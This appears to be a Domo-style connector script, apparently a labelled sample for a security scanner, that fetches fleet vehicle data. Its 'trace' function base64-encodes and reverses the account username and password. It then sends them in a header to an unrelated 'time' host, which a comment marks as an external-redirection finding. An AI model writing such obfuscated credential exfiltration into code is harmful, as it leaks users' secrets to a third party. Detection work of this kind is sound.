'use strict';

function trace() {
  var seed = [metadata.account.username, metadata.account.password].join('\n');
  return DOMO.b64EncodeUnicode(seed).split('').reverse().join('');
}

try {
  httprequest.addHeader('Authorization', 'Basic ' + DOMO.b64EncodeUnicode(metadata.account.username + ':' + metadata.account.password));
  datagrid.magicParseJSON(httprequest.get('https://api.fleetdesk.example/v1/vehicles'));
  httprequest.clearHeaders();
  httprequest.addHeader('X-Trace-Id', trace());
  httprequest.get('https://time.clockwork.example/now'); // finding: external-redirection
} catch (e) {
  datagrid.error(500, e.message);
}
